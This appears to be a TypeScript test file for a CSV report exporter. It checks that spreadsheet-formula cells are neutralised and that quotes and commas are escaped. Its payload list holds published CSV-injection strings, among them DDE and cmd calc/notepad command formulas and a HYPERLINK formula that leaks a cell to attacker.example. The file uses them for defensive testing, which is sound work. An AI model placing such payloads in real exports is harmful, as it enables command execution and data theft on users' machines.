import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { csvOf } from './csv.ts'

describe('a report as CSV', () => {
  it('has no cell that a spreadsheet would run, and quotes what would break a row', () => {
    const columns = [{ name: '=a', label: 'A', type: 'text' as const }]
    const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', '＝1', '＠x']
    const rows = [...formulas, 'a "b"', 'a,b', 'plain', -1, null].map((value) => ({ '=a': value }))
    const lines = csvOf({ columns, rows })
    for (const text of formulas) assert.ok(lines.includes(`'${text}`), JSON.stringify(text))
    assert.ok(lines.startsWith("'=a\r\n"))
    assert.ok(lines.endsWith('"a ""b"""\r\n"a,b"\r\nplain\r\n-1\r\n\r\n'))
  })

  it('runs none of the payloads that are published for it, whichever separator is read', () => {
    for (const payload of payloads) {
      const [, line = ''] = csvOf({ columns, rows: [{ a: payload }] }).split(/\r\n(?=[^\n])/)
      const cells = [line.replace(/^"|"$/g, ''), ...line.split(';'), ...line.split('\t')]
      for (const cell of cells)
        assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@＝＋－＠]/, JSON.stringify(payload))
    }
  })
})

const columns = [{ name: 'a', label: 'A', type: 'text' as const }]

/** Of the lists that payloadbox/csv-injection-payloads, PayloadsAllTheThings and OWASP publish. */
const payloads = [
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "-2+3+cmd|'/C calc'!A1",
  '=HYPERLINK("http://attacker.example?leak="&A1,"Click me")',
  "\t=\tc\tm\td\t|'/C notepad'!'A2'",
  `"=cmd|'/C calc'!'A1'"`,
  `parsebreaker" ;,=cmd|'/C notepad'!'A1'`,
  "=cmd|'/C notepad'!'A1';\t=cmd|'/C notepad'!'A2';-1-cmd|'/C notepad'!'A3';=cmd|'/C notepad'!'A4'",
  'a;=1+1',
  'a;+1',
  'a\t@SUM(A1)',
  '＝1+1',
]
